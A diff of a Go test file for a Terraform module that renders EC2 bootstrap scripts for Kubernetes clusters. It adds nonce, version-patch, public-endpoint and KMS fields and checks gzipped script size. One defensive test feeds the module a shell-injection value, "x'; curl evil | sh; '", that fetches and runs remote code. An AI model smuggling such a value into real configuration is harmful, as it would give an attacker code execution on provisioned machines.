@@ -2,6 +2,7 @@ package bootstrap
 
 import (
 	"bytes"
+	"compress/gzip"
 	"context"
 	"encoding/json"
 	"fmt"
@@ -16,7 +17,10 @@ import (
 	"time"
 )
 
-const testClusterID = "3f2a9c1e-7b4d-4e8a-9f00-0a1b2c3d4e5f"
+const (
+	testClusterID = "3f2a9c1e-7b4d-4e8a-9f00-0a1b2c3d4e5f"
+	testKMSKey    = "arn:aws:kms:eu-north-1:123456789012:key/0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"
+)
 
 // variant is one module call of the render probe.
 type variant struct {
@@ -25,19 +29,29 @@ type variant struct {
 	endpointOverride  string
 	untaint           bool
 	waitTimeoutSecond int
+	// patch is the exact Kubernetes release to install ("" for the newest).
+	patch string
+	// public is the public endpoint (the internet-facing NLB).
+	public string
+	// nonce is the relay nonce ("" for none).
+	nonce string
+	// kmsKey encrypts the published admin kubeconfig ("" for aws/ssm).
+	kmsKey string
 }
 
 // variants are the scripts the tests run: three control planes and workers
 // behind an NLB, a member 1 with a one-second wait, and a lone control plane
 // without endpoint override or workers.
 var variants = map[string]variant{
-	"cp0":           {role: "control-plane", index: 0, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300},
-	"cp1":           {role: "control-plane", index: 1, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300},
-	"cp2":           {role: "control-plane", index: 2, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300},
+	"cp0": {role: "control-plane", index: 0, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300, public: "public.kubeopera.test",
+		kmsKey: testKMSKey},
+	"cp1":           {role: "control-plane", index: 1, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300, public: "public.kubeopera.test"},
+	"cp2":           {role: "control-plane", index: 2, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 300, public: "public.kubeopera.test"},
 	"worker":        {role: "worker", waitTimeoutSecond: 300},
 	"cp1_short":     {role: "control-plane", index: 1, endpointOverride: "api.kubeopera.test", waitTimeoutSecond: 2},
-	"single_cp0":    {role: "control-plane", index: 0, untaint: true, waitTimeoutSecond: 300},
+	"single_cp0":    {role: "control-plane", index: 0, untaint: true, waitTimeoutSecond: 300, patch: "1.36.2", public: "single-public.kubeopera.test"},
 	"single_worker": {role: "worker", waitTimeoutSecond: 300},
+	"nonce_worker":  {role: "worker", waitTimeoutSecond: 300, nonce: "n0nce"},
 }
 
 // pollInterval is the relay poll interval the scripts are rendered with:
@@ -122,11 +136,15 @@ func probeRoot() string {
 		fmt.Fprintf(&b, `module %q {
   source                = "./modules/%s"
   cluster_id            = %q
+  relay_nonce           = %q
   region                = "eu-north-1"
   role                  = %q
   index                 = %d
-  kubernetes_version    = "1.33"
+  kubernetes_version    = "1.36"
+  kubernetes_patch      = %q
   endpoint_override     = %q
+  public_endpoint       = %q
+  kubeconfig_kms_key    = %q
   untaint_control_plane = %t
   poll_interval_seconds = %s
   wait_timeout_seconds  = %d
@@ -136,7 +154,7 @@ output %q {
   value = module.%s.script
 }
 
-`, name, ModuleDir, testClusterID, v.role, v.index, v.endpointOverride, v.untaint, pollInterval,
+`, name, ModuleDir, testClusterID, v.nonce, v.role, v.index, v.patch, v.endpointOverride, v.public, v.kmsKey, v.untaint, pollInterval,
 			v.waitTimeoutSecond, name, name)
 	}
 	b.WriteString("output \"parameters\" {\n  value = module.cp0.parameters\n}\n\n" +
@@ -218,11 +236,17 @@ func TestRenderedScriptsAreShellcheckClean(t *testing.T) {
 }
 
 func TestRenderedScriptsFitEC2UserData(t *testing.T) {
-	// EC2 takes at most 16 KB of user_data (before base64); the modules also
-	// gzip it, but a script that fits uncompressed leaves room to grow.
+	// EC2 takes at most 16 KB of user_data (before base64). The modules send
+	// the script gzipped (base64gzip), so that is what must fit; half of it
+	// leaves room to grow.
 	for name, s := range scripts(t) {
-		if len(s) >= 16<<10 {
-			t.Errorf("%s: rendered script is %d bytes, over EC2's 16 KB user_data limit", name, len(s))
+		var gz bytes.Buffer
+		w := gzip.NewWriter(&gz)
+		if _, err := w.Write([]byte(s)); err != nil || w.Close() != nil {
+			t.Fatal(err)
+		}
+		if gz.Len() >= 8<<10 {
+			t.Errorf("%s: gzipped script is %d bytes, over half of EC2's 16 KB user_data limit", name, gz.Len())
 		}
 		if !strings.HasPrefix(s, "#!/bin/bash\n") {
 			t.Errorf("%s: script does not start with #!/bin/bash, so cloud-init would not run it", name)
@@ -233,9 +257,12 @@ func TestRenderedScriptsFitEC2UserData(t *testing.T) {
 func TestHeaderCarriesTheInputs(t *testing.T) {
 	s := scripts(t)
 	for name, want := range map[string][]string{
-		"cp1":        {"KO_ROLE='control-plane'", "KO_INDEX='1'", "KO_ENDPOINT_OVERRIDE='api.kubeopera.test'", "KO_KUBERNETES_VERSION='1.33'", "KO_POLL_INTERVAL='0.2'"},
+		"cp1":        {"KO_ROLE='control-plane'", "KO_INDEX='1'", "KO_ENDPOINT_OVERRIDE='api.kubeopera.test'", "KO_KUBERNETES_VERSION='1.36'", "KO_POLL_INTERVAL='0.2'"},
 		"worker":     {"KO_ROLE='worker'", "KO_UNTAINT_CONTROL_PLANE='false'"},
-		"single_cp0": {"KO_ENDPOINT_OVERRIDE=''", "KO_UNTAINT_CONTROL_PLANE='true'"},
+		"single_cp0": {"KO_ENDPOINT_OVERRIDE=''", "KO_UNTAINT_CONTROL_PLANE='true'", "KO_KUBERNETES_PATCH='1.36.2'"},
+		"cp0":        {"KO_KUBERNETES_PATCH=''", "KO_CONTAINERD_VERSION='2.1.4'", "KO_ARCH='amd64'"},
+		"nonce_worker": {"KO_PARAM_MEMBERS='" + PrefixWithNonce(testClusterID, "n0nce") + "/members'",
+			"KO_PARAM_WORKER_JOIN='" + PrefixWithNonce(testClusterID, "n0nce") + "/join/worker'"},
 	} {
 		for _, w := range want {
 			if !strings.Contains(s[name], w+"\n") {
@@ -273,7 +300,7 @@ func TestModuleRefusesValuesThatCouldEscapeTheHeader(t *testing.T) {
   cluster_id         = "c1"
   region             = "eu-north-1"
   role               = "control-plane"
-  kubernetes_version = "1.33"
+  kubernetes_version = "1.36"
   endpoint_override  = "x'; curl evil | sh; '"
 }
 `, ModuleDir)
